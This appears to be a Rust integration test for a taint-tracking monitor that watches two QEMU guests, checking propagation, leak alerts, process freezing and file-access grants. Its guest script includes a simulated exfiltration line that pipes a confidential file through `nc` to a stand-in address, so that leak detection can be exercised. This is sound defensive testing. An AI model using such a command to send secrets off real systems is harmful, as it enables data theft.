//! Taint tracking end to end, in two real guests at once (the published
//! evaluation's setup): two Debian guests under QEMU 10 TCG, each with the
//! plugin loaded, its own SMBIOS UUID, and its share on its own fsd with a
//! policy that makes `conf/secret.txt` confidential (tracked only) and
//! `vault/secret.txt` protected. One `monitor daemon` has both VMs in its
//! configuration: it asks QEMU for their UUIDs, arms each VM's hooks through
//! its plugin socket (`plugin` in the configuration), and takes both fsds'
//! file events. The test reads everything as a client would: through
//! monitor-client and the `monitor taint` command line.
//!
//! One boot pair serves every case; each guest runs the same script, which
//! takes turns with the test over a control serial port.
//!
//! 1. A reader reads its VM's confidential file, writes it to `new.txt` and
//!    forks a child; an unrelated process reads a public file and writes
//!    `clean.txt`. Each VM's tables then hold exactly the reader, the child,
//!    the source and `new.txt`. The pids are forced to coincide across the
//!    VMs (`ns_last_pid`): VM A's reader has the pid of VM B's unrelated
//!    process and the other way round, and neither crosses over. The graph
//!    of this state is drawn as SVG by `monitor taint graph`.
//! 2. A UNIX stream client and a TCP loopback client (busybox `nc`) that
//!    read the confidential file send it to servers, which become tainted.
//! 3. A tainted `nc` sends to 192.0.2.99 (an address outside the host's
//!    VMs, given to the guest's loopback so the connection succeeds without
//!    a network): a leak alert with its chain on `monitor taint watch`, and
//!    with `freeze_on_leak` the process is frozen (its wchan in the guest).
//! 4. `cp vault/secret.txt out.txt` under a grant, then without one: `out.txt`
//!    is refused exactly like the original.
//!
//! fsd's file events and the hooks' events reach the engine on separate
//! paths, so a process's fork or send can be applied before the read that
//! tainted it; the engine then applies them again when the read arrives
//! (docs/taint.md, "Two producers, one order"). The leak case runs with no
//! pause between the read and the send, and so exercises that; elsewhere
//! the guest waits for the test after each read, so that the rest of the
//! case is checked on the ordinary path. Every wait is a poll with a
//! generous bound.
//!
//! Needs QEMU 10, the guest kernel and its vmlinux, busybox, Graphviz, the
//! guest helpers, and `fsd` and `monitor` built (`cargo build -p fsd -p monitor`);
//! without one of them the test prints `SKIP: …` (and fails under CI).

// The two VMs are indexed in step across the sides and the pids found.
#![allow(clippy::needless_range_loop)]

#[path = "../../fsd/tests/authd_stub/mod.rs"]
mod authd_stub;
mod common;

use std::collections::BTreeSet;
use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use monitor_client::taint_report::{Carrier, Query, Subject, VmEntry};
use monitor_client::Client;
use testrig::{Daemon, DaemonSpec, InitramfsBuilder, MemoryBackend, Need, QemuConfig, Sandbox};

/// Longest wait for anything the guests or the daemons do (boot, arming,
/// a step of the script): generous, for a loaded 2-core machine running
/// two TCG guests.
const BOUND: Duration = Duration::from_secs(400);
const T: Duration = Duration::from_secs(30);

const SECRET: &str = "confidential-line-of-";
const LEAK_DST: &str = "192.0.2.99:7777";

/// The guests' script (after the plugin tests' preamble: control port on
/// fd 3, loopback up, READY). `read -r go <&3` waits for the test; pids are
/// placed with `ns_last_pid` so that they coincide across the two VMs.
const SCRIPT: &str = r#"
read -r rbase cbase <&3
echo $((cbase - 1)) > /proc/sys/kernel/ns_last_pid
( read -r me rest </proc/self/stat; read -r y <pub/other.txt; echo "$y" >clean.txt; echo "CLEAN $me"; exec sleep 3600 ) &
echo $((rbase - 1)) > /proc/sys/kernel/ns_last_pid
(
  read -r me rest </proc/self/stat
  read -r x <conf/secret.txt
  echo "$x" >new.txt
  echo "READER $me"
  read -r go <&3
  echo $((rbase + 9)) > /proc/sys/kernel/ns_last_pid
  sleep 3600 &
  echo "CHILD $!"
  read -r go <&3
)
hookprobe unix-serve /tmp/u.sock &
userve=$!
(
  read -r me rest </proc/self/stat
  read -r x <conf/secret.txt
  echo "UCLIENT $me"
  read -r go <&3
  exec hookprobe unix-send /tmp/u.sock "$x"
)
wait $userve
nc -l -p 5555 >/tmp/tcp.out &
echo "TSERVER $!"
(
  read -r me rest </proc/self/stat
  read -r x <conf/secret.txt
  echo "TCLIENT $me"
  read -r go <&3
  echo "$x" | nc 127.0.0.1 5555
)
wait $!
echo "TGOT $(cat /tmp/tcp.out)"
ip addr add 192.0.2.99/32 dev lo
sleep 3600 | nc -l -p 7777 >/tmp/leak.out &
echo "LSERVER $!"
(
  read -r me rest </proc/self/stat
  read -r x <conf/secret.txt
  echo "LEAKER $me"
  { echo "$x"; exec sleep 3600; } | nc 192.0.2.99 7777 &
  echo "LEAKNC $!"
)
read -r pid <&3
echo "FROZEN $pid wchan=$(cat /proc/$pid/wchan) state=$(cut -d' ' -f3 /proc/$pid/stat)"
read -r go <&3
cp vault/secret.txt out.txt
echo "CP rc=$?"
read -r go <&3
cat vault/secret.txt >/dev/null 2>/tmp/e1; echo "RSECRET rc=$? $(cat /tmp/e1)"
cat out.txt >/dev/null 2>/tmp/e2; echo "ROUT rc=$? $(cat /tmp/e2)"
echo "SCRIPT-DONE"
"#;

/// The policy both fsds run (each under its own `--vm`).
const POLICY: &str = r#"version = 1

[[principal]]
name = "alice"

[[vm]]
name = "vma"
principal = "alice"

[[vm]]
name = "vmb"
principal = "alice"

[[rule]]
path = "vault/**"
owner = "alice"
without_grant = "ask"
grant_secs = 3600

[[rule]]
path = "conf/**"
owner = "alice"
protect = []
confidential = true
"#;

/// One guest with its fsd.
struct Side {
    name: &'static str,
    uuid: &'static str,
    share: PathBuf,
    vm: testrig::Vm,
    ctl: UnixStream,
    mem: PathBuf,
    fsd: Daemon,
}

impl Drop for Side {
    fn drop(&mut self) {
        self.vm.kill();
        let _ = std::fs::remove_file(&self.mem);
    }
}

impl Side {
    fn send(&mut self, line: &str) {
        self.ctl
            .write_all(format!("{line}\n").as_bytes())
            .expect("write control serial");
    }

    /// The rest of the first console line that starts with `key `, waited
    /// for.
    fn line(&mut self, key: &str) -> String {
        let needle = format!("{key} ");
        let deadline = Instant::now() + BOUND;
        loop {
            let console = self.vm.console();
            // Only whole lines: the last one may still be arriving.
            let whole = &console[..console.rfind('\n').map_or(0, |i| i + 1)];
            if let Some(l) = whole.lines().find_map(|l| l.trim().strip_prefix(&needle)) {
                return l.trim().to_string();
            }
            if Instant::now() > deadline {
                panic!(
                    "{}: no {key} line after {BOUND:?}:\n{}\n--- fsd ---\n{}",
                    self.name,
                    tail(&console, 40),
                    self.fsd.log_tail(30)
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn pid(&mut self, key: &str) -> u32 {
        let l = self.line(key);
        l.split_whitespace()
            .next()
            .and_then(|w| w.parse().ok())
            .unwrap_or_else(|| panic!("{}: {key} {l:?} is no pid", self.name))
    }

    /// The host file as the engine names it.
    fn file(&self, rel: &str) -> Subject {
        let m = std::fs::metadata(self.share.join(rel))
            .unwrap_or_else(|e| panic!("{}: {rel}: {e}", self.name));
        Subject::File {
            dev: m.dev(),
            ino: m.ino(),
        }
    }
}

fn tail(s: &str, n: usize) -> String {
    let lines: Vec<&str> = s.lines().collect();
    lines[lines.len().saturating_sub(n)..].join("\n")
}

/// Polls `f` until it gives something, at most [`BOUND`].
fn until<R>(what: &str, mut f: impl FnMut() -> Option<R>) -> R {
    let deadline = Instant::now() + BOUND;
    loop {
        if let Some(r) = f() {
            return r;
        }
        assert!(Instant::now() < deadline, "timed out: {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Everything one run holds; QEMU, fsd and the monitor die on drop.
struct Rig {
    dir: tempfile::TempDir,
    monitor_bin: PathBuf,
    socket: PathBuf,
    monitor: Daemon,
    /// How the monitor was started, to start it again.
    monitor_spec: DaemonSpec,
    /// `monitor taint watch --json`, writing to `watch.jsonl`.
    watch: Option<Child>,
    authd: authd_stub::FakeAuthd,
    sides: Vec<Side>,
}

impl Drop for Rig {
    fn drop(&mut self) {
        if let Some(w) = &mut self.watch {
            let _ = w.kill();
            let _ = w.wait();
        }
    }
}

impl Rig {
    fn client(&self) -> Client {
        Client::connect(&self.socket).expect("connect to the monitor")
    }

    fn graph(&self, vm: &str) -> Vec<VmEntry> {
        self.client().taint_graph(vm, T).expect("taint graph").1
    }

    fn entry(&self, vm: &str, s: &Subject) -> Option<VmEntry> {
        self.graph(vm).into_iter().find(|e| &e.entry.subject == s)
    }

    /// The (live or ended) tainted process with this pid in `vm`.
    fn process(&self, vm: &str, pid: u32) -> Option<VmEntry> {
        self.graph(vm).into_iter().find(|e| {
            e.entry.pid == Some(pid) && matches!(e.entry.subject, Subject::Process { .. })
        })
    }

    fn wait_process(&self, vm: &str, pid: u32, what: &str) -> VmEntry {
        until(&format!("{vm}: {what} (pid {pid}) tainted"), || {
            self.process(vm, pid)
        })
    }

    fn watch_lines(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.dir.path().join("watch.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn fail(&self, what: &str) -> ! {
        let consoles: String = self
            .sides
            .iter()
            .map(|s| {
                format!(
                    "--- {} console ---\n{}\n",
                    s.name,
                    tail(&s.vm.console(), 30)
                )
            })
            .collect();
        panic!(
            "{what}\n{consoles}--- monitor ---\n{}",
            self.monitor.log_tail(40)
        )
    }
}

fn start() -> Option<Rig> {
    let env = testrig::require(&[Need::Qemu10, Need::Kernel, Need::Busybox, Need::Vmlinux])?;
    let vmlinux = env.vmlinux.clone()?;
    let plugin = common::plugin()?;
    let (fsd_bin, monitor_bin) = match (testrig::paths::fsd(), testrig::paths::monitor()) {
        (Ok(f), Ok(m)) => (f, m),
        (Err(e), _) | (_, Err(e)) => return testrig::skip(e),
    };
    // `monitor taint graph --format svg` runs Graphviz (scripts/apt/monitor.txt).
    if testrig::paths::which(Path::new("dot")).is_none() {
        return testrig::skip("Graphviz dot is not installed (scripts/install-deps.sh)");
    }
    let tools = match testrig::guest_tools::build() {
        Ok(t) => t,
        Err(e) => return testrig::skip(format!("guest helpers: {e}")),
    };
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    println!("two_vms: files in {}", d.display());
    let authd = authd_stub::FakeAuthd::start(d);
    let policy = d.join("policy.toml");
    std::fs::write(&policy, POLICY).unwrap();
    let monitor_socket = d.join("monitor.sock");

    let names = [
        ("vma", "6f1c3e2a-0000-4000-8000-00000000000a"),
        ("vmb", "6f1c3e2a-0000-4000-8000-00000000000b"),
    ];
    let mut vms = serde_json::Map::new();
    let paths = |name: &str| {
        (
            d.join(format!("{name}-qmp.sock")),
            d.join(format!("{name}-gdb.sock")),
            d.join(format!("{name}-plugin.sock")),
            PathBuf::from(format!(
                "/dev/shm/taint-two-vms-{}-{name}-{}",
                std::process::id(),
                d.file_name().unwrap().to_string_lossy()
            )),
        )
    };
    for (name, _) in names {
        let (qmp, gdb, plugin_sock, mem) = paths(name);
        // No `uuid`: the monitor asks each QEMU (query-uuid).
        vms.insert(
            name.into(),
            serde_json::json!({"qmp": qmp, "gdb": gdb, "mem": mem, "vmlinux": vmlinux,
                               "plugin": plugin_sock}),
        );
    }
    let config = d.join("monitor.json");
    std::fs::write(
        &config,
        serde_json::to_vec_pretty(&serde_json::json!({
            "vms": vms,
            "taint": {"freeze_on_leak": true, "audit_log": d.join("taint-audit.jsonl"),
                      "state_dir": d.join("taint-state")}
        }))
        .unwrap(),
    )
    .unwrap();
    let spec = DaemonSpec::monitor(
        &monitor_bin,
        &config,
        &d.join("profiles"),
        &monitor_socket,
        d.join("monitor.log"),
    )
    .rust_log("info,monitor::hook_feed=trace");
    let monitor = Daemon::spawn_on_path(&spec, &monitor_socket).unwrap_or_else(|e| panic!("{e}"));

    let initrd = InitramfsBuilder::run_script("share", &format!("{}{SCRIPT}", common::PREAMBLE))
        .guest_tools(&tools)
        .build(&env.kernel)
        .expect("build initramfs");
    let mut sides = Vec::new();
    for (name, uuid) in names {
        let (qmp, gdb, plugin_sock, mem) = paths(name);
        let share = d.join(format!("{name}-share"));
        for sub in ["conf", "vault", "pub"] {
            std::fs::create_dir_all(share.join(sub)).unwrap();
        }
        std::fs::write(share.join("conf/secret.txt"), format!("{SECRET}{name}\n")).unwrap();
        std::fs::write(share.join("vault/secret.txt"), format!("vault-of-{name}\n")).unwrap();
        std::fs::write(share.join("pub/other.txt"), "public\n").unwrap();
        let fsd_sock = d.join(format!("{name}-fsd.sock"));
        let spec = DaemonSpec::fsd(
            &fsd_bin,
            &fsd_sock,
            &share,
            Sandbox::Namespace,
            &[
                format!("--policy={}", policy.display()),
                format!("--vm={name}"),
                format!(
                    "--audit-log={}",
                    d.join(format!("{name}-audit.jsonl")).display()
                ),
                format!("--authd-socket={}", authd.socket.display()),
                format!("--monitor-socket={}", monitor_socket.display()),
            ],
            d.join(format!("{name}-fsd.log")),
        );
        let fsd = Daemon::spawn_on_path(&spec, &fsd_sock).unwrap_or_else(|e| panic!("{e}"));
        let ctl = d.join(format!("{name}-ctl.sock"));
        let mut cfg = QemuConfig::new(&env.kernel, &initrd)
            .fs(&fsd_sock, "share")
            .qemu10()
            .plugin(&plugin, &[("sock", plugin_sock.display().to_string())]);
        cfg.memory = MemoryBackend::File(mem.clone());
        cfg.qmp = Some(qmp);
        cfg.gdb = Some(gdb);
        cfg.uuid = Some(uuid.into());
        cfg.append.push("loglevel=4".into());
        cfg.timeout = Duration::from_secs(1800);
        cfg.console_log = Some(d.join(format!("{name}-console.log")));
        for a in [
            "-chardev".to_string(),
            format!("socket,id=ctl,path={},server=on,wait=off", ctl.display()),
            "-device".to_string(),
            "isa-serial,chardev=ctl".to_string(),
        ] {
            cfg.extra_args.push(a.into());
        }
        let vm = testrig::Vm::start(&cfg).expect("start QEMU 10");
        let ctl = until(&format!("{name}: control socket"), || {
            UnixStream::connect(&ctl).ok()
        });
        sides.push(Side {
            name,
            uuid,
            share,
            vm,
            ctl,
            mem,
            fsd,
        });
    }
    Some(Rig {
        dir,
        monitor_bin,
        socket: monitor_socket,
        monitor,
        monitor_spec: spec,
        watch: None,
        authd,
        sides,
    })
}

#[test]
fn taint_tracking_in_two_vms() {
    let Some(mut rig) = start() else { return };
    let t0 = Instant::now();
    up_and_armed(&mut rig);
    println!("both guests up and armed after {:?}", t0.elapsed());
    case1(&mut rig);
    case2(&mut rig);
    leak(&mut rig);
    derived_files(&mut rig);
    nothing_lost(&rig);
    monitor_restarted(&mut rig);
    println!("two VMs, all cases: {:?}", t0.elapsed());
}

/// Both guests up, both feeds armed, the watch running.
fn up_and_armed(rig: &mut Rig) {
    for i in 0..2 {
        let s = &mut rig.sides[i];
        if !s.vm.wait_for_console("READY", BOUND) {
            let name = s.name;
            rig.fail(&format!("{name} did not come up"));
        }
    }
    // Both feeds armed their VM's hooks.
    for i in 0..2 {
        let name = rig.sides[i].name;
        let armed = format!("{name}: 5 hooks armed");
        until(&format!("{name}: hooks armed"), || {
            rig.monitor.log_text().contains(&armed).then_some(())
        });
    }
    // `monitor taint watch --json`, as an operator would run it, started
    // once the daemon serves (the leak it must show comes minutes later).
    let watch = Command::new(&rig.monitor_bin)
        .args(["taint", "watch", "--json", "--socket"])
        .arg(&rig.socket)
        .stdout(std::fs::File::create(rig.dir.path().join("watch.jsonl")).unwrap())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("run monitor taint watch");
    rig.watch = Some(watch);
}

/// Case 1, then its graph drawn as SVG.
fn case1(rig: &mut Rig) {
    // VM A's reader gets pid 600, its unrelated process 700; VM B the
    // other way round.
    rig.sides[0].send("600 700");
    rig.sides[1].send("700 600");
    let mut reader = [0u32; 2];
    let mut clean = [0u32; 2];
    for i in 0..2 {
        reader[i] = rig.sides[i].pid("READER");
        clean[i] = rig.sides[i].pid("CLEAN");
    }
    assert_eq!(
        (reader[0], clean[1], reader[1], clean[0]),
        (600, 600, 700, 700),
        "the pids coincide across the VMs"
    );
    for i in 0..2 {
        let name = rig.sides[i].name;
        let r = rig.wait_process(name, reader[i], "the reader");
        assert!(
            matches!(r.entry.origin.by, Carrier::Open | Carrier::Read),
            "{r:?}"
        );
        let new = rig.sides[i].file("new.txt");
        until(&format!("{name}: new.txt tainted"), || {
            rig.entry(name, &new)
        });
        rig.sides[i].send("go");
    }
    let mut child = [0u32; 2];
    for i in 0..2 {
        child[i] = rig.sides[i].pid("CHILD");
        let name = rig.sides[i].name;
        let c = rig.wait_process(name, child[i], "the reader's child");
        assert_eq!(c.entry.origin.by, Carrier::Fork, "{c:?}");
    }
    assert_eq!(child, [610, 710]);
    // Exactly the reader, the child, the source and new.txt, per VM; the
    // other VM's entries and the unrelated process and file nowhere.
    let status = rig.client().taint_status(None, T).expect("taint status");
    for i in 0..2 {
        let s = &rig.sides[i];
        let st = status
            .vms
            .iter()
            .find(|v| v.name == s.name)
            .unwrap_or_else(|| panic!("{} not in {status:?}", s.name));
        assert_eq!(st.vm, s.uuid, "keyed by the SMBIOS UUID QEMU was given");
        assert_eq!(
            (
                st.files,
                st.processes,
                st.unverified,
                st.unix_sockets,
                st.inet_flows,
                st.alerts
            ),
            (2, 2, 0, 0, 0, 0),
            "{}: {st:?}",
            s.name
        );
        assert!(st.guest_events > 0 && st.file_events > 0, "{st:?}");
        let graph = rig.graph(s.name);
        let got: BTreeSet<String> = graph
            .iter()
            .map(|e| format!("{:?}", e.entry.subject))
            .collect();
        let reader_e = rig.process(s.name, reader[i]).unwrap();
        let child_e = rig.process(s.name, child[i]).unwrap();
        let want: BTreeSet<String> = [
            s.file("conf/secret.txt"),
            s.file("new.txt"),
            reader_e.entry.subject.clone(),
            child_e.entry.subject.clone(),
        ]
        .iter()
        .map(|x| format!("{x:?}"))
        .collect();
        assert_eq!(got, want, "{}: {graph:#?}", s.name);
        // The unrelated process (the other VM's reader pid) and file are
        // clean here.
        let mut c = rig.client();
        let (q, complete) = c
            .taint_query(
                s.name,
                Query::Process {
                    pid: clean[i],
                    task: None,
                },
                T,
            )
            .unwrap();
        assert!(
            q.is_none(),
            "{}: the unrelated pid {} is tainted: {q:?}",
            s.name,
            clean[i]
        );
        let other = &rig.sides[1 - i];
        assert!(
            rig.entry(s.name, &other.file("conf/secret.txt")).is_none()
                && rig.entry(s.name, &s.file("clean.txt")).is_none()
        );
        println!(
            "{}: case 1 as expected (tracking complete: {complete} {:?})",
            s.name, st.incomplete
        );
    }
    // The graph of case 1, drawn by the command line.
    let svg = rig.dir.path().join("taint-graph-vma.svg");
    let out = Command::new(&rig.monitor_bin)
        .args(["taint", "graph", "--vm", "vma", "--format", "svg", "-o"])
        .arg(&svg)
        .arg("--socket")
        .arg(&rig.socket)
        .output()
        .expect("run monitor taint graph");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&svg).unwrap();
    assert!(text.contains("<svg") && text.contains("new.txt"), "{text}");
    if let Some(keep) = std::env::var_os("TAINT_GRAPH_SVG") {
        std::fs::copy(&svg, keep).unwrap();
    }
    println!("case 1 graph: {}", svg.display());
    for i in 0..2 {
        rig.sides[i].send("go");
    }
}

/// Case 2: UNIX stream, then TCP over loopback.
fn case2(rig: &mut Rig) {
    // Case 2: UNIX stream, then TCP over loopback.
    for i in 0..2 {
        let name = rig.sides[i].name;
        let client = rig.sides[i].pid("UCLIENT");
        rig.wait_process(name, client, "the UNIX client");
        let server = rig.sides[i].line("USERVE listening");
        let server: u32 = server.trim_start_matches("pid=").parse().unwrap();
        rig.sides[i].send("go");
        let e = rig.wait_process(name, server, "the UNIX server");
        assert_eq!(e.entry.origin.by, Carrier::Recv, "{e:?}");
        assert!(
            matches!(e.entry.origin.from, Some(Subject::UnixPair { .. })),
            "{e:?}"
        );
        let client = rig.sides[i].pid("TCLIENT");
        let server = rig.sides[i].pid("TSERVER");
        rig.wait_process(name, client, "the TCP client");
        rig.sides[i].send("go");
        let e = rig.wait_process(name, server, "the TCP server");
        assert_eq!(e.entry.origin.by, Carrier::Recv, "{e:?}");
        assert!(
            matches!(e.entry.origin.from, Some(Subject::Flow(_))),
            "{e:?}"
        );
        let got = rig.sides[i].line("TGOT");
        assert_eq!(got, format!("{SECRET}{name}"));
    }
}

/// A tainted nc sends outside the host's VMs: alert, chain, freeze.
fn leak(rig: &mut Rig) {
    // Leak: a tainted nc sends outside the host's VMs.
    for i in 0..2 {
        let name = rig.sides[i].name;
        // No waiting here: the shell forks nc right after its read, so the
        // hooks' fork and send may reach the engine before fsd's read.
        let leaker = rig.sides[i].pid("LEAKER");
        let nc = rig.sides[i].pid("LEAKNC");
        let uuid = rig.sides[i].uuid;
        let alert = until(&format!("{name}: leak alert on the watch stream"), || {
            rig.watch_lines().into_iter().find(|l| {
                l["event"] == "leak" && l["alert"]["vm"] == uuid && l["alert"]["pid"] == nc
            })
        });
        let alert = &alert["alert"];
        assert_eq!(alert["destination"], LEAK_DST, "{alert}");
        assert_eq!(alert["freeze"], true, "{alert}");
        let chain = alert["chain"].as_array().expect("a chain");
        let secret = rig.sides[i].file("conf/secret.txt");
        let Subject::File { dev, ino } = secret else {
            unreachable!()
        };
        let last = &chain.last().expect("a chain of entries")["entry"];
        assert_eq!(
            (&last["subject"]["dev"], &last["subject"]["ino"]),
            (&dev.into(), &ino.into()),
            "the chain ends at the VM's confidential file: {alert}"
        );
        assert!(chain.len() >= 3, "nc <- leaker (fork) <- file: {alert}");
        let path: Vec<String> = chain
            .iter()
            .map(|c| {
                let e = &c["entry"];
                let text = |v: &serde_json::Value| v.as_str().unwrap_or("?").to_string();
                format!(
                    "{} {} by {}",
                    text(&e["subject"]["type"]),
                    e["pid"],
                    text(&e["origin"]["by"])
                )
            })
            .collect();
        println!("{name}: leak by nc {nc}, chain {path:?}");
        // Named by its pid alone when fsd's report came after its exit.
        until(
            &format!("{name}: the leaker (pid {leaker}) tainted"),
            || {
                rig.graph(name)
                    .into_iter()
                    .find(|e| e.entry.pid == Some(leaker))
            },
        );
        let frozen = until(&format!("{name}: freeze outcome"), || {
            rig.watch_lines()
                .into_iter()
                .find(|l| l["event"] == "freeze" && l["vm"] == uuid && l["pid"] == nc)
        });
        if frozen["ok"] != true {
            rig.fail(&format!("{name}: freeze failed: {frozen}"));
        }
        rig.sides[i].send(&nc.to_string());
        let state = rig.sides[i].line(&format!("FROZEN {nc}"));
        assert!(
            state.contains("do_freezer_trap") || state.contains("get_signal"),
            "{name}: nc {nc} is not parked: {state}"
        );
    }
}

/// Derived files: cp under a grant, then reads without one.
fn derived_files(rig: &mut Rig) {
    // Derived files: cp under a grant, then reads without one.
    rig.authd.grant.store(true, Ordering::SeqCst);
    for i in 0..2 {
        rig.sides[i].send("go");
        assert_eq!(rig.sides[i].line("CP"), "rc=0");
    }
    rig.authd.grant.store(false, Ordering::SeqCst);
    rig.authd.revoke_all();
    for i in 0..2 {
        rig.sides[i].send("go");
        let secret = rig.sides[i].line("RSECRET");
        let out = rig.sides[i].line("ROUT");
        assert!(
            secret.starts_with("rc=1 ") && secret.contains("Permission denied"),
            "{secret}"
        );
        assert_eq!(
            out,
            secret.replace("vault/secret.txt", "out.txt"),
            "out.txt is refused exactly like the original"
        );
        if !rig.sides[i].vm.wait_for_console("SCRIPT-DONE", BOUND) {
            rig.fail("the script did not end");
        }
        let audit = std::fs::read_to_string(
            rig.dir
                .path()
                .join(format!("{}-audit.jsonl", rig.sides[i].name)),
        )
        .unwrap();
        assert!(
            audit
                .lines()
                .any(|l| l.contains("\"op\":\"inherit\"") && l.contains("out.txt")),
            "{audit}"
        );
    }
}

/// At the end no event was lost by fsd or by the hooks.
fn nothing_lost(rig: &Rig) {
    let status = rig.client().taint_status(None, T).unwrap();
    for st in &status.vms {
        println!(
            "{}: {} files, {} processes, {} UNIX, {} INET, {} alerts, {} hook events, {} file events, complete: {} {:?}",
            st.name,
            st.files,
            st.processes,
            st.unix_sockets,
            st.inet_flows,
            st.alerts,
            st.guest_events,
            st.file_events,
            st.complete,
            st.incomplete
        );
        assert_eq!(st.hooks_dropped + st.fsd_dropped, 0, "{st:?}");
    }
}

/// The monitor is killed (SIGKILL) and started again on the same state
/// directory: every VM's taint graph and counts are as before, both VMs
/// are still known, and the daemon serves queries again.
fn monitor_restarted(rig: &mut Rig) {
    let snapshot = |rig: &Rig| {
        let status = rig.client().taint_status(None, T).unwrap();
        let mut out = Vec::new();
        for st in &status.vms {
            let graph: BTreeSet<String> = rig
                .graph(&st.name)
                .iter()
                .map(|e| format!("{:?} {:?}", e.entry.subject, e.entry.origin))
                .collect();
            out.push((
                st.name.clone(),
                (
                    st.files,
                    st.processes,
                    st.unix_sockets,
                    st.inet_flows,
                    st.alerts,
                ),
                graph,
            ));
        }
        out.sort();
        out
    };
    let before = snapshot(rig);
    assert_eq!(before.len(), 2, "{before:?}");
    // SAFETY: killing the monitor this test started.
    unsafe { libc::kill(rig.monitor.pid() as i32, libc::SIGKILL) };
    rig.monitor.wait_exit(Duration::from_secs(10));
    let t = Instant::now();
    rig.monitor = Daemon::spawn_on_path(&rig.monitor_spec, &rig.socket)
        .unwrap_or_else(|e| panic!("the monitor did not start again: {e}"));
    let after = until("the restarted monitor answers", || {
        std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| snapshot(rig))).ok()
    });
    for ((name, counts, graph), (name2, counts2, graph2)) in before.iter().zip(&after) {
        assert_eq!(name, name2);
        assert_eq!(
            counts, counts2,
            "{name}: counts after the monitor's restart"
        );
        assert_eq!(
            graph, graph2,
            "{name}: taint graph after the monitor's restart"
        );
    }
    let status = rig.client().taint_status(None, T).unwrap();
    for st in &status.vms {
        println!(
            "{}: after the monitor's SIGKILL and restart ({:?}): {} files, {} processes, {} alerts, complete: {} {:?}",
            st.name,
            t.elapsed(),
            st.files,
            st.processes,
            st.alerts,
            st.complete,
            st.incomplete
        );
    }
}
